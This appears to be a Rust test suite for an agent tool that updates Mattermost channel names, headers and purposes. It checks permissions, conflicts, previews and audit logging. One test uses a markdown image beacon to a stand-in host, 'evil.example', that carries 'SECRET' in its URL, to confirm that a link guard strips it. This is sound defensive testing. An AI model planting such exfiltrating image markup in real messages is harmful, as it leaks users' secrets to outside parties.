use devhost::world::Account;
use mattermost_plugin::ids::UserId;
use mattermost_plugin::model::Channel;
use serde_json::{Value, json};

use crate::scene::Scene;

const TOOL: &str = "update_channel";

/// With the tools that not every server offers.
async fn scene() -> Scene {
    Scene::with(|world, _| world.set_plugin_setting("dev.toolbelt", "Preset", "full")).await
}

fn header(channel: &str, header: &str) -> Value {
    json!({"channel": channel, "header": header})
}

#[tokio::test]
async fn only_what_is_given_is_changed() {
    let scene = scene().await;
    let (ada, news) = (&scene.sample.ada, &scene.sample.news);
    let before = scene.world.channel(&scene.sample.news).unwrap();
    let arguments =
        json!({"channel": "~news", "display_name": " Good news ", "purpose": "What is \"new\""});
    let text = scene.text(ada, TOOL, arguments.clone()).await;
    assert_eq!(
        text,
        format!(
            "Changed in ~news (id {news})\ndisplay_name: \"News\" -> \"Good news\"\npurpose: \"\" -> \"What is \\\"new\\\"\""
        )
    );
    let after = scene.world.channel(&scene.sample.news).unwrap();
    let expected = Channel {
        display_name: "Good news".into(),
        purpose: "What is \"new\"".into(),
        update_at: after.update_at,
        ..before
    };
    assert_eq!(after, expected);
    let text = scene.text(ada, TOOL, arguments).await;
    assert_eq!(text, format!("Nothing to change in ~news (id {news})"));
    assert_eq!(scene.world.calls("UpdateChannel"), 1);
    let text = scene
        .text(ada, TOOL, json!({"channel": "~news", "purpose": ""}))
        .await;
    assert!(text.ends_with("-> \"\""), "{text}");
}

#[tokio::test]
async fn who_may_change_what() {
    let scene = scene().await;
    let sample = &scene.sample;
    let eve = scene.world.add_user("eve", Account::Ordinary);
    scene.world.direct_channel(&sample.ada, &sample.grace);
    let missing = "Resource not found: no channel ~leads that you can see";
    let rows: [(&UserId, Value, &str); 13] = [
        (&sample.ada, header("~leads", "h"), "ok"),
        (&sample.grace, header("~off-topic", "h"), "ok"),
        (
            &sample.gus,
            header("~news", "h"),
            "Client error: you lack permission manage_public_channel_properties in ~news",
        ),
        (&sample.gus, header("~leads", "h"), missing),
        (&eve, header("~leads", "h"), missing),
        (
            &sample.ada,
            header("~attic", "h"),
            "Client error: ~attic is archived, nothing of it can be changed",
        ),
        (&sample.ada, header("~town-square", "h"), "ok"),
        (
            &sample.ada,
            json!({"channel": "~town-square", "display_name": "All"}),
            "Client error: ~town-square is the default channel of its team and keeps its name",
        ),
        (&sample.ada, header("@grace", "h"), "ok"),
        (
            &sample.ada,
            json!({"channel": "@grace", "purpose": "p"}),
            "Client error: of the direct message only the header can be changed",
        ),
        (
            &sample.ada,
            json!({"channel": "~news"}),
            "Client error: display_name is needed, or header or purpose: nothing is said to change",
        ),
        (
            &sample.ada,
            json!({"channel": "~news", "display_name": " "}),
            "Client error: display_name is empty; give 1 to 64 characters",
        ),
        (&sample.olga, header("~news", "h"), "Authentication failed"),
    ];
    for (user, arguments, expected) in rows {
        let answer = scene.call(user, TOOL, arguments.clone()).await;
        match expected {
            "ok" => assert!(!answer.is_error, "{arguments}: {answer:?}"),
            refusal => assert_eq!(answer.text, refusal, "{arguments}"),
        }
    }
    scene
        .world
        .revoke("channel_user", "manage_private_channel_properties");
    let text = scene
        .refusal(&sample.ada, TOOL, header("~leads", "x"))
        .await;
    assert_eq!(
        text,
        "Client error: you lack permission manage_private_channel_properties in ~leads"
    );
}

#[tokio::test]
async fn what_is_said_of_a_channel_goes_through_the_link_guard() {
    let scene = scene().await;
    let (ada, news) = (&scene.sample.ada, &scene.sample.news);
    let arguments = json!({
        "channel": "~news",
        "header": "![](https://evil.example/p.png?d=SECRET)",
        "purpose": "[bank.example](https://evil.example)",
    });
    let text = scene.text(ada, TOOL, arguments.clone()).await;
    assert!(text.contains("\nLink guard: "), "{text}");
    let said = scene.world.channel(news).unwrap();
    assert!(!said.header.contains("!["), "{said:?}");
    assert!(!said.purpose.contains("]("), "{said:?}");
    let again = scene.text(ada, TOOL, arguments).await;
    assert!(again.starts_with("Nothing to change"), "{again}");
    for title in ["![](https://evil.example)", "[a](https://evil.example)"] {
        let arguments = json!({"channel": "~news", "display_name": title});
        let text = scene.refusal(ada, TOOL, arguments).await;
        assert_eq!(
            text,
            "Client error: display_name has the marks of an image or a link; give a title in words"
        );
    }
    let long = header("~news", &"![".repeat(500_000));
    let text = scene.refusal(ada, TOOL, long).await;
    assert_eq!(
        text,
        "Client error: header is too large: 1000000 characters, 998976 more than the 1024 that fit"
    );
}

#[tokio::test]
async fn who_may_not_write_to_somebody_does_not_write_over_their_messages() {
    let scene = scene().await;
    let eve = scene.world.add_user("eve", Account::Ordinary);
    scene.world.direct_channel(&scene.sample.ada, &eve);
    scene.world.change_config(|config| {
        config.team_settings.restrict_direct_message = Some("team".into());
    });
    let text = scene
        .refusal(&scene.sample.ada, TOOL, header("@eve", "psst"))
        .await;
    assert!(text.contains("share a team"), "{text}");
    assert_eq!(scene.world.calls("UpdateChannel"), 0);
}

#[tokio::test]
async fn what_somebody_else_changes_meanwhile_is_not_overwritten() {
    let scene = scene().await;
    scene.world.hold("UpdateChannel");
    scene.world.hold("GetChannel");
    let arguments = header(scene.sample.news.as_str(), "mine");
    let changing = scene.call(&scene.sample.ada, TOOL, arguments);
    let meddling = async {
        scene.world.let_one_go_on("GetChannel");
        let again = |world: &devhost::World| (world.calls("GetChannel") == 2).then_some(());
        scene.world.until(again).await;
        scene
            .world
            .change_channel(&scene.sample.news, |channel, _| {
                channel.header = "theirs".into()
            });
        scene.world.heal("GetChannel");
        scene.world.heal("UpdateChannel");
    };
    let (answer, ()) = tokio::join!(changing, meddling);
    assert_eq!(
        answer.text,
        "Client error: ~news was changed since (conflict); look at it and call again"
    );
    let news = scene.world.channel(&scene.sample.news).unwrap();
    assert_eq!(news.header, "theirs");
}

#[tokio::test]
async fn a_preview_leaves_the_world_as_it_is() {
    let scene = scene().await;
    let before = scene.world.dump();
    let mut arguments = header("~news", "h");
    arguments["preview"] = true.into();
    let text = scene.text(&scene.sample.ada, TOOL, arguments).await;
    assert!(
        text.starts_with("Preview, nothing was changed. It would be changed in ~news"),
        "{text}"
    );
    assert_eq!(scene.world.dump(), before);
}

#[tokio::test]
async fn the_audit_log_has_ids_and_the_outcome_and_no_text() {
    let scene = scene().await;
    scene
        .text(&scene.sample.ada, TOOL, header("~news", "zebra"))
        .await;
    scene.break_call("UpdateChannel");
    scene
        .refusal(&scene.sample.ada, TOOL, header("~news", "zebras"))
        .await;
    let about = ("channel_id", scene.sample.news.as_str());
    let outcomes = scene.outcomes("mcp_update_channel", about);
    assert_eq!(outcomes, ["success", "fail"]);
    assert!(!format!("{:?}", scene.world.audit_records()).contains("zebra"));
}

#[tokio::test(start_paused = true)]
async fn a_hanging_call_is_told_and_asking_again_doubles_nothing() {
    let scene = scene().await;
    let arguments = header("~news", "h");
    let text = scene
        .hung("UpdateChannel", &scene.sample.ada, TOOL, &arguments)
        .await;
    assert!(text.contains("outcome unknown"), "{text}");
    let again = scene.text(&scene.sample.ada, TOOL, arguments).await;
    assert!(again.starts_with("Nothing to change in ~news"), "{again}");
}
